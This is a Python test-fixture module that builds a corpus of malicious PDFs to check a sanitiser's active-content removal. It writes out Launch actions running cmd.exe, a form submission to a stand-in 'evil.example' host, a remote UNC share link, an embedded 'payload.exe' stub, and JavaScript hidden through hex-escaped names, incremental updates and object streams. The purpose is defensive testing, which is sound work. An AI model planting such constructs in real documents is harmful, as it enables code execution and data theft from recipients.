"""Malicious PDFs for the active-content tests (invariant 10), built in code.

Every file has one or two pages whose content stream draws the text VISIBLE_TEXT, so a
test can check the page content survives sanitising. `CORPUS` maps a name to a builder;
`combined()` is the file of the original report (page /AA JavaScript, a JavaScript link,
/Launch cmd.exe and an embedded file at once).
"""

from __future__ import annotations

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, String

VISIBLE_TEXT = "Lampiran uji konten aktif"
LINK_TEXT = "https://contoh.example/tautan"


def _base(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    for number in range(pages):
        content = (
            f"BT /F1 14 Tf 72 720 Td ({VISIBLE_TEXT} {number + 1}) Tj ET "
            f"BT /F1 11 Tf 72 690 Td ({LINK_TEXT}) Tj ET"
        ).encode()
        page = pikepdf.Page(
            Dictionary(
                Type=Name.Page,
                MediaBox=Array([0, 0, 595, 842]),
                Resources=Dictionary(Font=Dictionary(F1=font)),
                Contents=pdf.make_stream(content),
            )
        )
        pdf.pages.append(page)
    return pdf


def _bytes(pdf: pikepdf.Pdf, *, object_streams: bool = False) -> bytes:
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    pdf.save(out, object_stream_mode=mode, compress_streams=False)
    return out.getvalue()


def _js(pdf, code: str = "app.alert('x')", *, indirect: bool = True):
    action = Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))
    return pdf.make_indirect(action) if indirect else action


def _launch():
    return Dictionary(
        Type=Name.Action,
        S=Name.Launch,
        F=String("cmd.exe"),
        Win=Dictionary(F=String("cmd.exe"), P=String("/c calc.exe")),
    )


def _annot(pdf, page, **entries):
    annot = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Rect=Array([72, 680, 300, 705]), Border=Array([0, 0, 0]), **entries
        )
    )
    page.obj.Annots = Array([*page.obj.get("/Annots", Array()), annot])
    return annot


def _embedded_filespec(pdf, name: str = "payload.exe"):
    stream = pdf.make_stream(b"MZ\x90\x00 evil payload")
    stream.Type = Name.EmbeddedFile
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=stream))
    )


def page_aa_javascript() -> bytes:
    pdf = _base()
    pdf.pages[0].obj.AA = Dictionary(O=_js(pdf), C=_js(pdf, "this.submitForm('x')"))
    return _bytes(pdf)


def javascript_link() -> bytes:
    pdf = _base()
    _annot(pdf, pdf.pages[0], Subtype=Name.Link, A=_js(pdf, "app.launchURL('x')", indirect=False))
    return _bytes(pdf)


def launch_cmd() -> bytes:
    pdf = _base()
    _annot(pdf, pdf.pages[0], Subtype=Name.Link, A=pdf.make_indirect(_launch()))
    return _bytes(pdf)


def embedded_files_tree() -> bytes:
    pdf = _base()
    pdf.Root.Names = Dictionary(
        EmbeddedFiles=Dictionary(Names=Array([String("payload.exe"), _embedded_filespec(pdf)]))
    )
    return _bytes(pdf)


def file_attachment_annotation() -> bytes:
    pdf = _base()
    _annot(pdf, pdf.pages[0], Subtype=Name.FileAttachment, FS=_embedded_filespec(pdf))
    return _bytes(pdf)


def associated_files() -> bytes:
    pdf = _base()
    pdf.pages[0].obj.AF = Array([_embedded_filespec(pdf, "data.xml")])
    pdf.Root.AF = Array([_embedded_filespec(pdf, "more.bin")])
    return _bytes(pdf)


def open_action_javascript() -> bytes:
    pdf = _base()
    pdf.Root.OpenAction = _js(pdf, "app.alert('open')")
    pdf.Root.AA = Dictionary(WC=_js(pdf, "app.alert('close')"))
    return _bytes(pdf)


def submit_form_field() -> bytes:
    pdf = _base()
    submit = Dictionary(
        S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/collect"))
    )
    widget = _annot(
        pdf,
        pdf.pages[0],
        Subtype=Name.Widget,
        FT=Name.Btn,
        Ff=65536,
        T=String("kirim"),
        A=submit,
        AA=Dictionary(K=_js(pdf, "event.value='x'"), Fo=_js(pdf)),
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([widget]))
    return _bytes(pdf)


def import_data() -> bytes:
    pdf = _base()
    _annot(pdf, pdf.pages[0], Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F=String("x.fdf")))
    return _bytes(pdf)


def rich_media() -> bytes:
    pdf = _base()
    content = Dictionary(
        Assets=Dictionary(Names=Array([String("a.swf"), _embedded_filespec(pdf, "a.swf")]))
    )
    _annot(
        pdf,
        pdf.pages[0],
        Subtype=Name.RichMedia,
        RichMediaContent=content,
        RichMediaSettings=Dictionary(),
    )
    _annot(
        pdf,
        pdf.pages[0],
        Subtype=Name.Link,
        A=Dictionary(S=Name.RichMediaExecute, TA=Dictionary(), TI=Dictionary()),
    )
    return _bytes(pdf)


def media_and_remote() -> bytes:
    pdf = _base()
    _annot(pdf, pdf.pages[0], Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, OP=0))
    _annot(pdf, pdf.pages[0], Subtype=Name.Sound, Sound=pdf.make_stream(b"\x00\x01"))
    _annot(
        pdf,
        pdf.pages[0],
        Subtype=Name.Link,
        A=Dictionary(S=Name.GoToR, F=String("\\\\evil\\share\\x.pdf"), D=Array([0, Name.Fit])),
    )
    return _bytes(pdf)


def xfa_form() -> bytes:
    pdf = _base()
    xfa = pdf.make_stream(b"<xdp:xdp><script>xfa.host.messageBox('x')</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa, NeedsRendering=True)
    return _bytes(pdf)


def uri_link() -> bytes:
    pdf = _base()
    _annot(pdf, pdf.pages[0], Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(LINK_TEXT)))
    return _bytes(pdf)


def next_chain() -> bytes:
    """A harmless GoTo link whose /Next chain runs JavaScript and launches a program,
    hidden in an indirect array and a nested /Next."""
    pdf = _base(2)
    inner = Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]), Next=_launch())
    chain = pdf.make_indirect(Array([inner, _js(pdf, "app.alert('chain')")]))
    goto = Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]), Next=chain)
    _annot(pdf, pdf.pages[0], Subtype=Name.Link, A=goto)
    return _bytes(pdf)


def action_array() -> bytes:
    """Actions where a single one belongs: an /A array and an /OpenAction array."""
    pdf = _base()
    _annot(pdf, pdf.pages[0], Subtype=Name.Link, A=Array([_js(pdf), _launch()]))
    pdf.Root.OpenAction = Array([_js(pdf, "app.alert('array')")])
    return _bytes(pdf)


def name_tree_kids() -> bytes:
    """Document JavaScript and embedded files in name-tree /Kids, not flat /Names."""
    pdf = _base()
    leaf = pdf.make_indirect(
        Dictionary(
            Names=Array([String("a"), _js(pdf, "app.alert('kid')")]),
            Limits=Array([String("a"), String("a")]),
        )
    )
    files = pdf.make_indirect(
        Dictionary(
            Names=Array([String("b"), _embedded_filespec(pdf)]),
            Limits=Array([String("b"), String("b")]),
        )
    )
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Kids=Array([leaf])), EmbeddedFiles=Dictionary(Kids=Array([files]))
    )
    return _bytes(pdf)


def outline_and_fields() -> bytes:
    """JavaScript in a bookmark, a form field's parent /AA and an odd custom key."""
    pdf = _base()
    item = pdf.make_indirect(Dictionary(Title=String("Buka"), A=_js(pdf, "app.alert('o')")))
    second = pdf.make_indirect(
        Dictionary(Title=String("Halaman 1"), Dest=Array([pdf.pages[0].obj, Name.Fit]))
    )
    item.Next, second.Prev = second, item
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=second, Count=2))
    item.Parent = second.Parent = outlines
    pdf.Root.Outlines = outlines
    parent = pdf.make_indirect(
        Dictionary(FT=Name.Tx, T=String("induk"), AA=Dictionary(V=_js(pdf, "event.rc=true")))
    )
    kid = _annot(pdf, pdf.pages[0], Subtype=Name.Widget, Parent=parent)
    parent.Kids = Array([kid])
    pdf.Root.AcroForm = Dictionary(Fields=Array([parent]))
    pdf.pages[0].obj.PieceInfo = Dictionary(X=_js(pdf, "app.alert('hidden')"))
    three_d = pdf.make_stream(b"U3D", Type=Name("/3D"), Subtype=Name.U3D)
    three_d.OnInstantiate = pdf.make_stream(b"host.alert('3d')")
    _annot(pdf, pdf.pages[0], Subtype=Name("/3D"), **{"/3DD": three_d})
    return _bytes(pdf)


def object_stream_javascript() -> bytes:
    """The JavaScript actions live inside compressed object streams."""
    pdf = _base()
    pdf.Root.OpenAction = _js(pdf, "app.alert('objstm')")
    _annot(pdf, pdf.pages[0], Subtype=Name.Link, A=pdf.make_indirect(_launch()))
    return _bytes(pdf, object_streams=True)


def incremental_update() -> bytes:
    """A clean file followed by an incremental update that adds an OpenAction JavaScript
    and a page /AA (only the update carries them)."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    clean = _bytes(_base())
    writer = PdfWriter(PdfReader(io.BytesIO(clean)), incremental=True)
    js = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('update')"),
        }
    )
    ref = writer._add_object(js)
    writer._root_object[NameObject("/OpenAction")] = ref
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): ref})
    out = io.BytesIO()
    writer.write(out)
    data = out.getvalue()
    assert data[: len(clean)] == clean  # an update appended to the clean file
    return data


def disguised_objects() -> bytes:
    """Less usual forms: an indirect /S name with a /JS stream, /AA on the page-tree node, a
    Launch typed as a structure element, an indirect action array, an embedded-file stream
    under a private key."""
    pdf = _base()
    name = pdf.make_indirect(Name.JavaScript)
    pdf.Root.OpenAction = pdf.make_indirect(
        Dictionary(S=name, JS=pdf.make_stream(b"app.alert('stream')"))
    )
    pdf.Root.Pages.AA = pdf.make_indirect(Dictionary(O=_launch()))
    struct = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Launch, F=String("x.exe")))
    _annot(pdf, pdf.pages[0], Subtype=Name.Link, A=struct)
    actions = pdf.make_indirect(Array([_launch()]))
    _annot(pdf, pdf.pages[0], Subtype=Name.Link, A=actions)
    pdf.pages[0].obj.PrivateData = _embedded_filespec(pdf).EF.F
    return _bytes(pdf)


def hex_escaped_names() -> bytes:
    """Names written with #xx escapes (/Java#53cript, /#4caunch) in the raw file (same-length
    placeholders are replaced, so the cross-reference offsets stay right)."""
    pdf = _base()
    pdf.Root.OpenAction = Dictionary(S=Name("/JavaPPPPPPPP"), JS=String("app.alert(1)"))
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name("/QQQQQQQQ"), F=String("cmd.exe")))
    data = _bytes(pdf)
    return data.replace(b"/JavaPPPPPPPP", b"/Java#53cript").replace(b"/QQQQQQQQ", b"/#4caunch")


def combined() -> bytes:
    """The file of the report: page /AA JavaScript, a JavaScript link annotation, a
    /Launch (cmd.exe) action and an embedded file."""
    pdf = _base()
    page = pdf.pages[0]
    page.obj.AA = Dictionary(O=_js(pdf))
    _annot(pdf, page, Subtype=Name.Link, A=_js(pdf, "app.alert('link')"))
    second = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 600, 300, 620]))
    second.A = _launch()
    page.obj.Annots.append(pdf.make_indirect(second))
    pdf.Root.Names = Dictionary(
        EmbeddedFiles=Dictionary(Names=Array([String("payload.exe"), _embedded_filespec(pdf)]))
    )
    return _bytes(pdf)


CORPUS = {
    "page_aa_javascript": page_aa_javascript,
    "javascript_link": javascript_link,
    "launch_cmd": launch_cmd,
    "embedded_files_tree": embedded_files_tree,
    "file_attachment_annotation": file_attachment_annotation,
    "associated_files": associated_files,
    "open_action_javascript": open_action_javascript,
    "submit_form_field": submit_form_field,
    "import_data": import_data,
    "rich_media": rich_media,
    "media_and_remote": media_and_remote,
    "xfa_form": xfa_form,
    "uri_link": uri_link,
    "next_chain": next_chain,
    "action_array": action_array,
    "name_tree_kids": name_tree_kids,
    "outline_and_fields": outline_and_fields,
    "object_stream_javascript": object_stream_javascript,
    "incremental_update": incremental_update,
    "disguised_objects": disguised_objects,
    "hex_escaped_names": hex_escaped_names,
    "combined": combined,
}


def encrypted() -> bytes:
    pdf = _base()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="pemilik", user="rahasia"))
    return out.getvalue()


ACTIVE_KEYS = {
    "/JS",
    "/AA",
    "/OpenAction",
    "/EF",
    "/AF",
    "/XFA",
    "/RichMediaContent",
    "/OnInstantiate",
}
ACTIVE_S = {
    "/JavaScript",
    "/Launch",
    "/SubmitForm",
    "/ImportData",
    "/RichMediaExecute",
    "/GoToR",
    "/GoToE",
    "/URI",
    "/Rendition",
}
ACTIVE_SUBTYPES = {"/FileAttachment", "/RichMedia", "/Screen", "/Sound", "/Movie", "/3D"}


def raw_active_names(data: bytes) -> set[str]:
    """Independent of core.pdfsafe: the active keys, action types (/S), annotation subtypes
    and embedded-file streams found by walking every object of the file with pikepdf."""
    found: set[str] = set()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        stack = [pdf.trailer, *pdf.objects]
        while stack:
            obj = stack.pop()
            if isinstance(obj, pikepdf.Array):
                stack.extend(o for o in obj if not getattr(o, "is_indirect", False))
                continue
            if not isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
                continue
            for key in list(obj.keys()):
                value = obj.get(key)
                text = str(value) if isinstance(value, pikepdf.Name) else ""
                if key in ACTIVE_KEYS:
                    found.add(key)
                if (key == "/S" and text in ACTIVE_S) or (
                    key == "/Subtype" and text in ACTIVE_SUBTYPES
                ):
                    found.add(text)
                if key == "/Type" and text == "/EmbeddedFile":
                    found.add(text)
                if key == "/Names" and isinstance(value, pikepdf.Dictionary):
                    found.update(n for n in ("/JavaScript", "/EmbeddedFiles") if n in value)
                if isinstance(value, (pikepdf.Dictionary, pikepdf.Array, pikepdf.Stream)) and not (
                    value.is_indirect
                ):
                    stack.append(value)
    return found
